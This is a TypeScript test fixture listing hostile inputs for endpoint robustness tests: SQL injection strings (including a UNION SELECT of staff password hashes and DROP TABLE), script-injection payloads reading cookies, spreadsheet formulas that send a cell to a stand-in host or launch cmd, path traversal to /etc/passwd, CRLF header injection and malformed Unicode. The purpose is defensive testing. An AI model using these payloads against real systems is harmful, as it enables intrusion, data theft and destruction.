/**
 * Hostile texts every endpoint must store, refuse or echo safely: SQL and HTML/script injection,
 * spreadsheet formulas (CSV injection), path tricks, odd Unicode and number-like strings.
 * `MARKUP_PAYLOADS` are the ones a page must show as text, never as markup.
 */
export const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE submissions; --",
  "1; SELECT pg_sleep(5); --",
  '" OR 1=1 --',
  "\\'; SELECT 1; --",
  "%' AND 1=1 --",
  "$1",
  "1' UNION SELECT password_hash FROM staff_users --",
  "'::jsonb",
  "E'\\x00'",
];

export const MARKUP_PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(document.cookie)</script>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "<iframe src=//example.test></iframe>",
  "{{constructor.constructor('alert(1)')()}}",
  '<a href="javascript:alert(1)">bấm vào đây</a>',
];

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://example.test/?x="&A1,"Bấm")',
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];

export const ODD_TEXTS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff",
  "x\ud83dy",
  "😀👩‍👩‍👧‍👦",
  "\u202eevil\u202c",
  "\u200b\u200c\u200d\ufeff",
  "\u2028\u2029",
  "Nguyễn Văn A\u0301\u0302\u0303",
  "../../../../etc/passwd",
  "..%2f..%2f",
  "%00",
  "%",
  "__proto__",
  "constructor",
  "prototype",
  "null",
  "undefined",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "99999999999999999999999999",
  "0x10",
  "true",
  "[]",
  "{}",
  "\\",
  '"',
  "'",
  "\r\n\r\n",
  "a\r\nSet-Cookie: x=1",
];

export const ALL_PAYLOADS = [...SQL_PAYLOADS, ...MARKUP_PAYLOADS, ...FORMULA_PAYLOADS, ...ODD_TEXTS];

/** Byte sequences that are not UTF-8: lone continuation bytes, overlongs, surrogates, truncation. */
export const INVALID_UTF8: readonly number[][] = [
  [0xff],
  [0xfe, 0xff],
  [0xc3, 0x28],
  [0xa0, 0xa1],
  [0xe2, 0x28, 0xa1],
  [0xf0, 0x28, 0x8c, 0x28],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe1, 0xbb],
  [0x00],
];

/** Percent-encoded bytes for paths and queries that do not decode to UTF-8 (or decode to NUL). */
export const BAD_PERCENT = ["%FF", "%C3%28", "%ED%A0%80", "%C0%AF", "%00", "%E1%BB", "%", "%G1", "%2e%2e%2f", "%25"];
